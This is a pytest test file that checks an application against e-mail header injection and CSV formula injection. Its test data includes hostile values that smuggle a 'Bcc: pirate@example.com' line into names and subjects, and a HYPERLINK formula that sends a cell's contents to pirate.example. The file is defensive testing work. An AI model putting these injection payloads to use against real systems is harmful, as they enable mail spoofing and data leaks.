"""What leaves the application is safe: e-mail headers on one line, CSV cells that are never formulas."""

import csv
import io

import pytest
from sqlalchemy import select

from app import clock
from app.extensions import db
from app.models import Notification, OutboxMessage
from app.services.audit import checkpoints, exports
from app.services.cases import notes
from app.services.core import csv_export
from app.services.messaging import messages, outbox
from app.services.people.users import by_username, create_user
from tests.support.flows import complaint_data, start
from tests.support.mail import start_sink


@pytest.fixture
def smtp(app):
    sink, controller, port = start_sink()
    app.config["SMTP_URL"] = f"smtp://127.0.0.1:{port}?timeout=5"
    yield sink
    controller.stop()


@pytest.mark.parametrize(("raw", "safe"), [
    ("Martine\r\nBcc: pirate@example.com", "Martine Bcc: pirate@example.com"),
    ("a\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h\x00i", "a b c d e f g h i"),
    ("  déjà   propre ", "déjà propre"),
    (None, ""),
])
def test_header_values_are_one_line(raw, safe):
    assert messages.header_value(raw) == safe


def test_a_newline_in_a_header_value_neither_stops_the_pass_nor_sends_wrongly(deployed, api, smtp):
    refs = [start(api, **complaint_data(customer_email=f"client{n}@example.fr"))["reference"] for n in range(3)]
    first, second, third = db.session.scalars(select(OutboxMessage).order_by(OutboxMessage.id)).all()
    assert len(refs) == 3
    first.subject = "Votre dossier\r\nBcc: pirate@example.com"  # a value that reached the subject unchecked
    second.recipient = "client1@example.fr\r\nBcc: pirate@example.com"
    db.session.commit()
    report = outbox.send_pending()
    assert sorted(report.sent) == [first.id, third.id] and report.failed == [second.id]
    assert [rcpt for rcpt, _mail in smtp.messages] == [["client0@example.fr"], ["client2@example.fr"]]
    mail = smtp.messages[0][1]
    assert mail["Subject"].startswith("Votre dossier Bcc: pirate@example.com") and mail["Bcc"] is None
    db.session.expire_all()
    failed = db.session.get(OutboxMessage, second.id)
    assert failed.status == "pending" and failed.sent_at is None and "destinataire invalide" in failed.last_error


def test_a_complainant_name_with_a_newline_is_answered(deployed, api, smtp):
    start(api, **complaint_data(customer_name="Martine\r\nBcc: pirate@example.com"))
    assert outbox.send_pending().failed == []
    [(rcpt, mail)] = smtp.messages
    assert rcpt == ["martine@example.fr"] and mail["Bcc"] is None and "\n" not in mail["Subject"]


def test_a_notification_that_could_not_be_mailed_is_not_marked_mailed(app, users):
    user = by_username("gestionnaire")
    user.email = "gestionnaire@example.fr"
    db.session.add(Notification(username="gestionnaire", kind="info", text="Relance\r\nBcc: pirate@example.com",
                                created_at=clock.now()))
    db.session.commit()
    sink, controller, port = start_sink()
    try:
        config = outbox.parse_smtp_url(f"smtp://127.0.0.1:{port}?timeout=5")
        assert outbox.email_notifications(config) == 1
        [(rcpt, mail)] = sink.messages
        assert rcpt == ["gestionnaire@example.fr"]
        assert mail["Subject"] == "[Réclamations] Relance Bcc: pirate@example.com"
    finally:
        controller.stop()
    db.session.add(Notification(username="gestionnaire", kind="info", text="Seconde", created_at=clock.now()))
    db.session.commit()
    assert outbox.email_notifications(config) == 0  # the server is gone: nothing sent
    db.session.expire_all()
    second = db.session.scalars(select(Notification).where(Notification.text == "Seconde")).one()
    assert second.emailed_at is None  # left for the next pass, not recorded as e-mailed


@pytest.mark.parametrize(("value", "cell"), [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+33 1 23", "'+33 1 23"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"), ("-12.5", "-12.5"), ("42", "42"), ("-inf", "'-inf"),
    ("texte", "texte"), (None, ""), (3, "3"),
])
def test_csv_cells_are_never_formulas(value, cell):
    assert csv_export.cell(value) == cell


def test_audit_csv_export_neutralises_formulas(client, deployed, api):
    ref = start(api, **complaint_data())["reference"]
    formula = '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")'
    create_user(formula, "demo", ["gestionnaire"])
    notes.add_comment(by_username(formula), ref, "Bonjour")
    assert client.post("/login", data={"username": "auditeur", "password": "demo"}).status_code == 302
    resp = client.get(f"/audit/cases/{ref}/export.csv")
    assert resp.status_code == 200
    text = resp.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    actors = [r["actor"] for r in rows]
    assert "'" + formula in actors and formula not in actors
    assert all(not (v or "").startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if isinstance(v, str))
    assert exports.verify_file(resp.get_data(), checkpoints.public_key_pem()) == []  # still verifies exactly
